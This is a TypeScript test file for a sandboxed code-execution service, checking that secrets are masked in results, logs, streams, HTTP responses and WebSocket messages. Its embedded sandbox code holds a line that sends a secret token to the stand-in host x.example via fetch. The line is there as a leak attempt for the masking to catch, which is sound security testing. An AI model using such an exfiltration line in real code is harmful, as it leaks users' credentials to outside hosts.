/** Tests secrets in real sandboxes: what code finds, and what answers, streams and logs show. */
import { once } from "node:events";
import { afterAll, beforeAll, expect, it } from "vitest";
import { WebSocket } from "ws";
import { createClient } from "../../src/client/client.ts";
import { until } from "../contract/engine-contract.ts";
import { TestServer } from "../helpers/server.ts";

const VALUE = 'sk-live-0123456789/"quoted"';
const MULTILINE = `-----BEGIN KEY-----\n${"q7".repeat(32)}\n${"Zx".repeat(32)}\n-----END KEY-----\n`;

let server: TestServer;
let client: ReturnType<typeof createClient>;
beforeAll(async () => {
  server = await TestServer.start({
    ISOLATE_SECRET_KEY: "5e".repeat(32),
    ISOLATE_KEEP_LOGS: "true",
  });
  client = createClient({ url: server.url });
  await client.secrets.put("TOKEN", VALUE);
  await client.secrets.put("PEM", MULTILINE);
});
afterAll(async () => {
  expect(await server.dispose()).toEqual([]);
});

/** Lists what is left of a value in a text. */
const leaks = (text: string): string[] =>
  ["sk-live-012", "0123456789", "q7".repeat(32), "Zx".repeat(32)].filter((part) =>
    text.includes(part),
  );

const SHOUTS = `
import { inspect } from "node:util";
export default async (fails) => {
  const { TOKEN, PEM } = process.env;
  console.log("token", TOKEN, { TOKEN, PEM });
  console.error(new Error("of the log: " + TOKEN));
  process.stdout.write("written " + PEM);
  await fetch("http://" + "x.example/?q=" + encodeURIComponent(TOKEN)).catch((error) => console.log(error));
  if (fails) throw Object.assign(new Error("bad " + TOKEN, { cause: new Error(TOKEN) }), { code: TOKEN });
  return {
    is: [TOKEN.length, Deno.env.get("PEM").length], TOKEN, [TOKEN]: 1,
    json: JSON.stringify({ TOKEN }), basic: btoa("user:" + TOKEN), shown: inspect({ PEM }),
    url: new URL("http://x.example/?" + new URLSearchParams({ TOKEN })).href,
  };
};`;

it.each(["container", "isolated"] as const)(
  "are variables of the code at level %s, and masked in all that it answers",
  async (sandbox) => {
    const asked = { code: SHOUTS, secrets: ["TOKEN", "PEM"], sandbox, explain: true };
    const output = await client.execute(asked);
    expect(output).toMatchObject({
      ok: true,
      result: { is: [VALUE.length, MULTILINE.length], TOKEN: "***", "***": 1 },
      plan: { env: ["PEM", "TOKEN"] },
    });
    expect(output.logs?.[0]?.message).toContain("token ***");
    expect(leaks(JSON.stringify(output))).toEqual([]);
    const failed = await client.execute({ ...asked, input: true });
    expect(failed.logs?.at(-1)).toMatchObject({
      level: "exception",
      message: "bad ***",
      cause: { message: "***" },
      details: { code: "***" },
    });
    expect(leaks(JSON.stringify(failed))).toEqual([]);
    const events: unknown[] = [];
    for await (const event of client.stream(asked)) events.push(event);
    expect(JSON.stringify(events)).toContain("token ***");
    expect(leaks(JSON.stringify(events))).toEqual([]);
    const kept = async () => JSON.stringify(await client.executionLogs(failed.id));
    await until(async () => (await kept()).includes("bad ***"));
    expect(leaks(await kept())).toEqual([]);
    expect(leaks(server.log + server.printed)).toEqual([]);
  },
);

it("are there for the execution that names them alone, in their newest versions", async () => {
  const code = "let calls = 0; export default () => [++calls, process.env.NEW?.length ?? null]";
  await client.secrets.put("NEW", "first value");
  const reused = { code, reuse: "tenant" } as const;
  expect((await client.execute({ ...reused, secrets: ["NEW"] })).result).toEqual([1, 11]);
  expect((await client.execute(reused)).result).toEqual([1, null]);
  await client.functions.deploy("newest", { code, secrets: ["NEW"] });
  const call = async () => (await client.functions.invoke("newest")).result;
  expect([await call(), await call()]).toEqual([
    [1, 11],
    [2, 11],
  ]);
  expect(await client.secrets.put("NEW", "a second value")).toMatchObject({ version: 2 });
  expect(await call()).toEqual([1, 14]);
  await client.secrets.delete("NEW");
  await expect(call()).rejects.toMatchObject({ code: "SECRET_NOT_FOUND", field: "secrets[0]" });
});

it("are masked in an HTTP function's headers, parts of its body and messages", async () => {
  const code = `export default (request) => {
    const { TOKEN } = process.env;
    if (request.headers.get("upgrade") === "websocket") {
      const { socket, response } = Deno.upgradeWebSocket(request);
      socket.onmessage = ({ data }) => { socket.send(data + TOKEN); socket.close(4000, TOKEN); };
      return response;
    }
    const type = new URL(request.url).searchParams.get("type");
    const parts = ["<p>" + TOKEN.slice(0, 5), TOKEN.slice(5) + "</p>", TOKEN.slice(0, 4)];
    const body = type ? TOKEN : ReadableStream.from(parts).pipeThrough(new TextEncoderStream());
    return new Response(body, { headers: { "content-type": type ?? "text/html", "x-token": "Bearer " + TOKEN } });
  }`;
  await client.functions.deploy("site", { code, kind: "http", public: true, secrets: ["TOKEN"] });
  const url = `${server.url}/f/default/site`;
  const page = await fetch(url);
  expect(page.headers.get("x-token")).toBe("Bearer ***");
  expect(await page.text()).toBe(`<p>***</p>${VALUE.slice(0, 4)}`);
  const json = await fetch(`${url}?type=application/json`);
  expect([json.headers.get("content-length"), await json.text()]).toEqual([null, "***"]);
  const image = await fetch(`${url}?type=image/png`);
  expect([image.headers.get("content-length"), await image.text()]).toEqual(["27", VALUE]);
  const socket = new WebSocket(url.replace("http", "ws"));
  await once(socket, "open");
  socket.send("token ");
  const [[message], [status, reason]] = await Promise.all([
    once(socket, "message"),
    once(socket, "close"),
  ]);
  expect([`${message}`, status, `${reason}`]).toEqual(["token ***", 4000, "***"]);
});
